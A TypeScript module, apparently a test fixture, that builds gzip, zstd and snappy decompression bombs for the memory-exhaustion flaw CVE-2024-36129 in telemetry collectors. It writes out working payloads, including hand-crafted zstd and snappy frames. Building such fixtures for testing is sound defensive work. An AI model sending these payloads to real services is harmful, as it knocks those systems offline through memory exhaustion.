import { gzipSync } from "node:zlib";

/** More than any collector of these stacks may have. */
const grown = 4 * 2 ** 30;

/**
 * Zeros that arrive as little and would fill any memory (CVE-2024-36129), under the names that HTTP
 * and gRPC have for their compressions.
 */
export const bombs: Readonly<Record<"gzip" | "zstd" | "snappy", () => Buffer>> = {
  gzip: () => repeated(gzipSync(Buffer.alloc(2 ** 26)), grown / 2 ** 26),
  zstd: () => Buffer.concat([zstdHead, repeated(zstdBlock, grown / 2 ** 17)]),
  // It shrinks to a twentieth only: as much as a request may be.
  snappy: () => Buffer.concat([snappyHead, repeated(snappyChunk(), (31 * 2 ** 20) / 3090)]),
};

function repeated(piece: Buffer, times: number): Buffer {
  return Buffer.alloc(piece.length * Math.floor(times), piece);
}

/** RFC 8878 3.1.1: the magic number, no size reported, a window of 128 KiB. */
const zstdHead = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38]);
/** One byte, 128 KiB of it, and not the last block. */
const zstdBlock = Buffer.from([...littleEndian(((2 ** 17) << 3) | (1 << 1)), 0]);

/** The stream identifier of snappy's framing format. */
const snappyHead = Buffer.from([0xff, 6, 0, 0, ...Buffer.from("sNaPpY")]);

/** 64 KiB of zeros: one as it is, and copies of what stands a byte before. */
function snappyChunk(): Buffer {
  const copies = repeated(Buffer.from([(63 << 2) | 2, 1, 0]), 1023);
  const rest = Buffer.from([(62 << 2) | 2, 1, 0]); // 1 + 1023 · 64 + 63 are 64 KiB
  const data = Buffer.concat([Buffer.from([0x80, 0x80, 0x04, 0, 0]), copies, rest]);
  const sum = checksum(Buffer.alloc(2 ** 16));
  const head = Buffer.alloc(8);
  head.writeUIntLE(data.length + 4, 1, 3);
  head.writeUInt32LE(sum, 4);
  return Buffer.concat([head, data]);
}

/** CRC-32C, turned and shifted as the framing format wants it. */
function checksum(of: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of of) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0x82f63b78 : 0);
  }
  const turned = ~crc >>> 0;
  return (((turned >>> 15) | (turned << 17)) + 0xa282ead8) >>> 0;
}

function littleEndian(value: number): number[] {
  return [value & 0xff, (value >> 8) & 0xff, (value >> 16) & 0xff];
}
